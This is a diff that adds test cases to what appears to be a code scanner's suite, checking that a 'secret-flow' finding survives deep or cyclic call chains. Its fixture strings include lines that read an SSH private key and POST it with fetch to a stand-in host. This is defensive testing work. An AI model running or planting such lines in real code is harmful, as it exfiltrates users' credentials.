@@ -28,3 +28,33 @@ describe("more to say than there is room for", () => {
     expect(new Set(report.findings.map((one) => one.fingerprint)).size).toBe(limits.findings);
   });
 });
+
+describe("more to follow than is allowed", () => {
+  it("never passes over a secret that goes out behind functions that call each other in too many ways", () => {
+    const steps = 800;
+    const ladder = Array.from({ length: steps }, (_, at) => ["a", "b"].map((one) => `const ${one}${at} = () => a${at + 1}() + b${at + 1}();`)).flat();
+    const code = [
+      'import { readFileSync } from "node:fs";',
+      ...ladder,
+      `const a${steps} = () => a0();`,
+      `const b${steps} = () => "";`,
+      'fetch("https://h.example.invalid/", { method: "POST", body: a0() });',
+      'fetch("https://h.example.invalid/", { method: "POST", body: readFileSync("/home/me/.ssh/id_rsa", "utf8") });',
+    ].join("\n");
+    const report = scanOf({ "a.mjs": code }, "imported");
+    expect(report.verdict).toBe("block");
+    expect(report.findings.some((one) => one.ruleId === "secret-flow" || one.ruleId === "scan-truncated")).toBe(true);
+  });
+
+  it("follows names that feed each other as far as those that do not", () => {
+    const size = 150;
+    const ring = Array.from(
+      { length: size },
+      (_, at) => `const f${at} = (x) => f${(at + 1) % size}(x) + f${(at * 7 + 3) % size}(x) + f${(at * 13 + 5) % size}(x);`,
+    );
+    const code = `${ring.join("\n")}\nimport { readFileSync } from "node:fs";\nconst told = () => f0(1) + readFileSync("/home/me/.ssh/id_rsa", "utf8");\nfetch("https://h.example.invalid/", { method: "POST", body: told() });\n`;
+    const report = scanOf({ "a.mjs": code }, "imported");
+    expect(rulesOf(report)).toContain("secret-flow");
+    expect(rulesOf(report)).not.toContain("scan-truncated");
+  });
+});
